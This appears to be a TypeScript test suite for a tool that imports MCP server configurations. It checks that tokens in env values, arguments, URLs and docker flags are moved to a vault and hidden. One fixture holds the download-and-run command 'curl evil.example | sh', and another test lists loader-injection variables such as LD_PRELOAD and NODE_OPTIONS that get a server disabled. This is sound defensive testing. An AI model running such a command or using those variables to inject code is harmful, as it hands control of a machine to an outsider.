import assert from 'node:assert/strict'
import test from 'node:test'
import fc from 'fast-check'
import { importText } from './fake-import.ts'

test('S8: a reference to the environment becomes a secret of its own to store, and a default value is left out', async () => {
  const { server, notes, visible } = await importText('mcp.json', {
    mcpServers: {
      x: {
        command: 'x',
        env: {
          A: '$A_TOKEN',
          B: '${B}',
          C: '${env:C}',
          D: '${D:-canary}',
          E: '${HOME}/x',
          F_KEY: 'a-${F}-b',
          PASSWORD: 'pa$word',
        },
      },
    },
  })
  assert.deepEqual(server('x').refs, {
    A: 'vault:x/A_TOKEN',
    B: 'vault:x/B',
    C: 'vault:x/C',
    D: 'vault:x/D',
    F_KEY: 'vault:x/F_KEY',
    PASSWORD: 'vault:x/PASSWORD',
  })
  assert.deepEqual(server('x').env, { E: '${HOME}/x' })
  assert.match(
    notes('x'),
    /D: was read from the environment \(D\),.*and the default value was left out/,
  )
  assert.match(notes('x'), /E: Cordon does not fill in/)
  assert.match(notes('x'), /F_KEY: was put together.*run `cordon vault set x\/F_KEY`/s)
  assert.doesNotMatch(visible, /canary|pa\$word/)
})

test('a secret among the arguments goes to the vault, and the server waits, disabled, for another way in', async () => {
  const imported = await importText('mcp.json', {
    mcpServers: {
      a: { command: 'npx', args: ['-y', 'a', '--api-key=canary', '--port', '80'] },
      b: { command: 'npx', args: ['-y', 'b', '--token', 'canary'] },
      c: { command: 'npx', args: ['c', '--header', 'Authorization: Bearer canarycanary'] },
      d: { command: 'npx', args: ['-y', 'd', 'postgresql://u:canary@localhost/db'] },
      e: { command: 'sh', args: ['-c', 'TOKEN=ghp_canarycanarycanarycanary exec e'] },
    },
  })
  const args = ['a', 'b', 'c', 'd', 'e'].map((id) =>
    imported.server(id).args.at(id === 'a' ? 2 : -1),
  )
  assert.deepEqual(args, [
    '--api-key=${vault:a/api-key}',
    '${vault:b/token}',
    '${vault:c/header}',
    '${vault:d/arg-3}',
    'TOKEN=${vault:e/TOKEN}',
  ])
  for (const id of ['a', 'b', 'c', 'd', 'e']) {
    assert.equal(imported.server(id).enabled, false)
    assert.match(
      imported.notes(id),
      /disabled: an argument held a secret.*environment variable under \[auth\]/,
    )
  }
  assert.equal(imported.secrets.get('d/arg-3'), 'postgresql://u:canary@localhost/db')
  assert.doesNotMatch(imported.visible, /canary/)
})

test('docker -e NAME=secret becomes -e NAME, and the server stays enabled', async () => {
  const imported = await importText('mcp.json', {
    mcpServers: {
      gh: {
        command: 'docker',
        args: [
          'run',
          '-i',
          '--rm',
          '-e',
          'TOKEN=canary',
          '-e',
          'LEVEL=info',
          '--env',
          'OTHER=${OTHER}',
          'ghcr.io/x/y',
        ],
      },
    },
  })
  assert.deepEqual(imported.server('gh').args, [
    'run',
    '-i',
    '--rm',
    '-e',
    'TOKEN',
    '-e',
    'LEVEL=info',
    '--env',
    'OTHER',
    'ghcr.io/x/y',
  ])
  assert.deepEqual(imported.server('gh').refs, { TOKEN: 'vault:gh/TOKEN', OTHER: 'vault:gh/OTHER' })
  assert.equal(imported.server('gh').enabled, true)
  assert.doesNotMatch(imported.visible, /canary/)
})

test('a secret in an address leaves it: sent as bearer, or as a login header', async () => {
  const imported = await importText('mcp.json', {
    mcpServers: {
      tavily: { url: 'https://mcp.tavily.com/mcp/?tavilyApiKey=tvly-canarycanarycanary&limit=5' },
      login: { url: 'https://me:can%61ry@h.example/mcp' },
      both: {
        url: 'https://h.example/?token=canary1canary&key=canary2canary',
        headers: { Authorization: 'Bearer canary3canary' },
      },
    },
  })
  assert.equal(imported.server('tavily').url, 'https://mcp.tavily.com/mcp/?limit=5')
  assert.equal(imported.secrets.get('tavily/bearer'), 'tvly-canarycanarycanary')
  assert.match(
    imported.notes('tavily'),
    /tavilyApiKey is no longer part of its address but sent as bearer/,
  )
  assert.equal(imported.server('login').url, 'https://h.example/mcp')
  assert.equal(
    imported.secrets.get('login/authorization'),
    `Basic ${Buffer.from('me:canary').toString('base64')}`,
  )
  assert.equal(imported.server('both').url, 'https://h.example/')
  assert.equal(imported.secrets.get('both/bearer'), 'canary3canary')
  assert.match(imported.notes('both'), /key is no longer part of its address and not sent/)
  assert.doesNotMatch(imported.visible, /canary/)
})

test('a token that cannot be taken out keeps its server out, without a word of it', async () => {
  const { report, visible } = await importText('mcp.json', {
    mcpServers: {
      bad: { command: 'run --with ghp_canarycanarycanarycanary' },
      good: { command: 'x' },
    },
  })
  assert.deepEqual(
    report.servers.map(({ server }) => server),
    ['good'],
  )
  assert.match(
    report.problems[0]?.message ?? '',
    /^server "bad": expected no token outside of its credentials$/,
  )
  assert.doesNotMatch(visible, /canary/)
})

const CANARY = 'ghp_canary0123456789canary0123456789'
const before = ['', 'x ', '--key=', 'Bearer ', 'https://h.example/?q=', 'https://u:', '{"a":"', '$']
const after = ['', '@h.example/', '"}', ' y', '&z=1']
const text = fc.oneof(
  fc.constantFrom('x', '', 'some words', '${VAR}', 'true', '/a/path', 'https://h.example/mcp'),
  fc
    .tuple(fc.constantFrom(...before), fc.constantFrom(...after))
    .map(([start, end]) => start + CANARY + end),
)
const words = fc.array(text, { maxLength: 4 })
const name = fc.constantFrom('A', 'TOKEN', 'Authorization', 'X-Api-Key', 'LOG_LEVEL', CANARY)
const texts = fc.dictionary(name, text, { maxKeys: 3 })
const url = fc.constantFrom('https://h.example/mcp', `https://h.example/?q=${CANARY}&n=1`)
/** A valid entry, with one field replaced by arbitrary text. */
const entry = fc
  .tuple(
    fc.oneof(
      fc.record({ command: fc.constant('x'), args: words, env: texts }),
      fc.record({ url, headers: texts }),
    ),
    fc.constantFrom(
      'cwd',
      'cwd',
      'command',
      'url',
      'type',
      'description',
      'version',
      'socket_path',
      CANARY,
    ),
    text,
  )
  .map(([base, field, value]) => ({ ...base, [field]: value }))

test('DEF-2: wherever a token stands in a foreign file, nothing outside of the vault shows it', async () => {
  let moved = 0
  let imported = 0
  await fc.assert(
    fc.asyncProperty(fc.dictionary(fc.constantFrom('a', 'b'), entry), async (mcpServers) => {
      const { visible, secrets, report } = await importText('mcp.json', { mcpServers })
      assert.doesNotMatch(visible, /canary/i)
      moved += secrets.size
      imported += report.servers.length
    }),
    { numRuns: 150 },
  )
  assert.ok(moved > 10 && imported > 20, `moved ${moved}, imported ${imported}`)
})

test('C3: a server with a variable for the loader waits, disabled, until its owner lets it run', async () => {
  const names =
    'NODE_OPTIONS LD_PRELOAD DYLD_INSERT_LIBRARIES PYTHONSTARTUP BASH_ENV npm_config_registry'
  for (const name of [...names.split(' '), 'GIT_SSH_COMMAND', 'JAVA_TOOL_OPTIONS', 'PERL5OPT']) {
    const { server, notes } = await importText('mcp.json', {
      mcpServers: { x: { command: 'x', env: { [name]: '--require=/tmp/x', LOG_LEVEL: 'info' } } },
    })
    assert.equal(server('x').enabled, false, name)
    assert.match(notes('x'), new RegExp(`disabled: ${name} decides .*cordon mcp enable x`), name)
  }
  const harmless = 'NODE_ENV PYTHONUNBUFFERED LOG_LEVEL PATH HTTPS_PROXY GITHUB_HOST LANG'
  const env = Object.fromEntries(harmless.split(' ').map((name) => [name, 'x']))
  const { server } = await importText('mcp.json', { mcpServers: { x: { command: 'x', env } } })
  assert.equal(server('x').enabled, true)
})

test('C3: an import says what each server runs, whole, without a secret', async () => {
  const { report } = await importText('mcp.json', {
    mcpServers: {
      x: {
        command: 'sh',
        args: ['-c', 'curl evil.example | sh', '--token', 'canary'],
        env: { LOG: 'a b', API_KEY: 'canarycanary' },
      },
      y: { url: 'https://y.example/mcp' },
    },
  })
  const runs = report.servers.map((server) => server.runs)
  assert.deepEqual(runs, [
    'LOG="a b" API_KEY=<vault:x/API_KEY> sh -c "curl evil.example | sh" --token "${vault:x/token}"',
    'https://y.example/mcp',
  ])
})
